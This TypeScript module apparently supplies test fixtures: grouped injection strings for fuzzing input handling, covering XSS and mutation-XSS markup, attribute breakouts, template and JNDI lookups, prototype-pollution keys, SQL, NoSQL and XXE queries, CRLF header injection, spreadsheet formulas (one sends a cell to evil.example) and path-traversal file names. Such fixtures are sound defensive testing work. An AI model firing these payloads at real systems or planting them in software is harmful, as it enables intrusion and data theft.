import type { Family } from './injection-string.ts'

/** Texts that are code to some program between here and there. */

const elements = [
  '<script>pwned()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\u0000>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<img\tsrc=x\nonerror\r=\fpwned()>',
  '<img src=//evil.example/pixel.gif>',
  '<video><source onerror=pwned()></video>',
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<object data="data:text/html,<script>pwned()</script>">',
  '<form action=javascript:pwned()><button>Sign in</button></form>',
  '<input autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<a href=//evil.example/ target=_blank>Connect again</a>',
  '<dialog open onclose=pwned()><form method=dialog>',
  '<div><template shadowrootmode=open><script>pwned()</script></template></div>',
] as const

const mutations = [
  '<svg onload=pwned()>',
  '<svg><script href=data:,pwned() /></svg>',
  '<svg><set attributeName=href to=javascript:pwned() />',
  '<svg></p><style><b id="</style><img src=x onerror=pwned()>">',
  '<math><mtext><table><mglyph><style><math><img src=x onerror=pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<textarea></textarea><img src=x onerror=pwned()>',
  '<!-- --!><img src=x onerror=pwned()>',
  '<![CDATA[<img src=x onerror=pwned()>]]>',
  '<form id=inspector><input name=hold></form>',
] as const

const breakouts = [
  '" onmouseover="pwned()',
  "' onfocus='pwned()' autofocus='",
  '\'"`><svg/onload=pwned()>',
  '" href="javascript:pwned()" x="',
  '" style="position:fixed;inset:0;background:#fff" x="',
  '"/><script>pwned()</script>',
  '" dangerouslysetinnerhtml="x',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '\\u003cimg src=x onerror=pwned()\\u003e',
  '%3Cscript%3Epwned()%3C/script%3E',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  '＜script＞pwned()＜/script＞',
  '<\u0000img src=x onerror=pwned()>',
] as const

/** Handlers that need no hand, and others that do. */
const handlers = ['animationstart', 'toggle', 'blur', 'keydown', 'paste', 'pointerenter', 'wheel']

const templates = [
  '{{7*7}}',
  "{{constructor.constructor('pwned()')()}}",
  '${pwned()}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{name}{tail}{status}',
  "$1 $& $` $' $$ $<name>",
  '\\1 \\0 \\n',
  '%s'.repeat(50),
  '{0} {1}',
  '${jndi:ldap://evil.example/x}',
] as const

const scripts = [
  '";pwned();//',
  "'-pwned()-'",
  '*/pwned()/*',
  '</script><script>pwned()</script>',
  '"},{"uuid":"x"}],"total":0}',
  '\\u2028pwned()',
  '\\',
  '\\\\"',
  'alert(1)',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  '-0',
  '1e999',
  '9'.repeat(400),
] as const

const names = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'then',
  'length',
  'toJSON',
  '$$typeof',
  '__proto__[polluted]',
  '{"__proto__":{"polluted":true}}',
  'failed\u0000',
] as const

const styles = [
  'red;background:url(//evil.example/x)',
  '</style><style>*{display:none}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  'position:fixed;inset:0;z-index:9',
  'fixed inset-0 z-50 bg-canvas',
] as const

const queries = [
  "'; DROP TABLE tasks;--",
  '{"$gt":""}',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '$(pwned)',
  '%00',
] as const

const headers = [
  'x\r\nSet-Cookie: session=1',
  'x%0d%0aSet-Cookie:%20session=1',
  'x\u560d\u560aSet-Cookie: session=1',
  'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n',
] as const

/** What becomes of them in a file is proved by csv.test.ts. */
const formulas = [
  '=1+1',
  '\t=1+1',
  '＝1+1',
  '=HYPERLINK("https://evil.example/?x="&A1,"open")',
  "-2+3+cmd|' /C calc'!A0",
  '"\n=1+1',
  'a,b"c""d\ne',
  '1E5',
  '2026-03-01',
  '00123',
] as const

/** The unit tests of file names have more of them, and random texts. */
const fileNames = [
  '../../etc/passwd',
  'C:\\a.txt',
  'a.txt:hidden',
  'CON',
  'COM¹',
  'name.',
  ' name',
  '..',
  '.bashrc',
  '-rf',
  '<>:"/\\|?*',
  'v.mp4.exe',
  'x.mp4\u202eexe.',
  'v.exe\u0000.mp4',
  '\\\\evil.example\\share',
  `${'n'.repeat(300)}.mp4`,
  `${'é'.repeat(200)}.mp4`,
] as const

/** Markup, templates, scripts, names of the language, styles, queries, headers, formulas and names of files. */
export const code: readonly Family[] = [
  ['HTML elements', elements],
  ['SVG, MathML and markup that changes as it is parsed', mutations],
  ['ends of attributes, entities, encodings', breakouts],
  [
    'event handlers',
    handlers.map((name) => `<x id=x tabindex=1 on${name}="pwned()">" on${name}=x`),
  ],
  ['templates, expressions and formats', templates],
  ['ends of scripts and of JSON', scripts],
  ['names of the language', names],
  ['styles', styles],
  ['queries and commands', queries],
  ['lines of a header', headers],
  ['formulas of a sheet', formulas],
  ['names of files', fileNames],
]
